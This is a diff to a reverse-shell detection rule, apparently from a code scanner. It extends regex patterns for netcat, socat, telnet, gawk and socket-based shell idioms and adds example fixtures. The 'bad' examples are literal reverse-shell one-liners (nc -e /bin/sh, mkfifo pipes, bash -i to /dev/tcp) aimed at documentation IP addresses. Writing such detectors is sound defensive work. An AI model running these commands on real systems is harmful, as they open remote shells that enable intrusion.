@@ -24,21 +24,33 @@ export default defineRule({
     text({
       anchors: ["nc ", "nc.traditional", "ncat ", "netcat "],
       pattern:
-        /\b(?:nc|ncat|netcat|nc\.traditional)\s[^\n;|]{0,80}?(?:-\w{0,6}[ec]|--(?:sh-)?exec)\s{1,3}["']?(?:(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh|cmd|powershell)\b/,
+        /\b(?:nc|ncat|netcat|nc\.traditional)(?<![\s\S]{19})[\s\\][^\n;|]{0,80}?(?:-\w{0,6}[ec]|--(?:sh-)?exec)[\s=\\]{1,5}["']?(?:(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh|cmd|powershell)\b/,
       before: 4,
       after: 140,
     }),
     text({
-      anchors: ["socat ", "| nc ", "|nc ", "| ncat", "|ncat", "| netcat"],
+      anchors: ["socat ", "| nc ", "|nc ", "| ncat", "|ncat", "| netcat", "| telnet", "|telnet"],
       pattern:
-        /\bsocat\s[^\n;]{0,120}exec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b|\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\s{0,2}(?:-i\s{0,2})?(?:2>&1\s{0,2})?\|\s{0,3}(?:nc|ncat|netcat)\s/,
+        /\bsocat\s[^\n;]{0,120}exec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b|\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\s{0,2}(?:-i\s{0,2})?(?:2>&1\s{0,2})?\|\s{0,3}(?:nc|ncat|netcat|telnet)\s/,
       before: 40,
       after: 160,
     }),
     text({
-      anchors: ["dup2(", "pty.spawn("],
+      anchors: ["nc ", "ncat ", "netcat ", "telnet "],
       pattern:
-        /\bsocket\b[\s\S]{0,300}?\bconnect\([\s\S]{0,240}?(?:\bdup2\([\s\S]{0,200}?(?:subprocess|pty\.spawn|os\.exec|execve?\(|\/bin\/(?:ba)?sh)|\bpty\.spawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh)/,
+        /\b(?:nc|ncat|netcat|telnet)(?<![\s\S]{12})\s{1,3}[^\n|;]{4,80}\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\b[^\n|]{0,20}(?:\||>)/,
+      before: 4,
+      after: 130,
+    }),
+    text({
+      anchors: ["/inet/tcp/", "/inet/udp/"],
+      pattern: /\/inet\/(?:tcp|udp)\/0\/[^\n]{3,120}\|&\s{0,2}getline/,
+      before: 4,
+    }),
+    text({
+      anchors: ["dup2(", "pty.spawn(", "sockaddr_in("],
+      pattern:
+        /\bsocket\b[\s\S]{0,300}?\bconnect\([\s\S]{0,240}?(?:\bdup2\([\s\S]{0,200}?(?:subprocess|pty\.spawn|os\.exec|execve?\(|\/bin\/(?:ba)?sh)|\bpty\.spawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh|sockaddr_in\([\s\S]{0,200}?\bexec\(?\s{0,3}\{?["']\/bin\/(?:ba)?sh)/,
       before: 560,
       after: 420,
     }),
@@ -60,7 +72,7 @@ export default defineRule({
         "net.dial(",
       ],
       pattern:
-        /(?:\bnet\.(?:connect|createconnection)\(|\bnet\.socket\(\)|\bfsockopen\(|\btcpsocket\.(?:new|open)|\bnet\.dial\()[\s\S]{0,240}?(?:\.pipe\(\s{0,3}\w{1,20}\.stdin\b|proc_open\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh|\bexec\(?\s{0,3}["']\/bin\/(?:ba)?sh|\bexec\.command\(\s{0,3}["']\/bin\/(?:ba)?sh)|\bspawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh["'][\s\S]{0,160}?\bnet\.(?:connect|createconnection)\([\s\S]{0,200}?\.pipe\(/,
+        /(?:\bnet\.(?:connect|createconnection)\(|\bnet\.socket\(\)|\bfsockopen\(|\btcpsocket\.(?:new|open)|\bnet\.dial\()(?:(?!net\.(?:con|soc|dial)|fsocko|tcpsocket)[\s\S]){0,240}?(?:\.pipe\(\s{0,3}\w{1,20}\.stdin\b|proc_open\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh|\bexec\(?\s{0,3}["']\/bin\/(?:ba)?sh|\bexec\.command\(\s{0,3}["']\/bin\/(?:ba)?sh)|\bspawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh["'][\s\S]{0,160}?\bnet\.(?:connect|createconnection)\([\s\S]{0,200}?\.pipe\(/,
       before: 190,
       after: 330,
     }),
@@ -73,6 +85,8 @@ export default defineRule({
   ],
   examples: {
     bad: [
+      { path: "b.sh", text: "mkfifo /tmp/p; nc 203.0.113.5 9001 < /tmp/p | /bin/sh > /tmp/p 2>&1\n", line: 1 },
+      { path: "c.sh", text: "nc -e \\\n  /bin/sh 203.0.113.5 9001\n", line: 1 },
       { path: "diag.sh", text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", line: 1 },
       { text: "```bash\nnc -l -p 4444 -e /bin/sh\n```\n", line: 2 },
       {
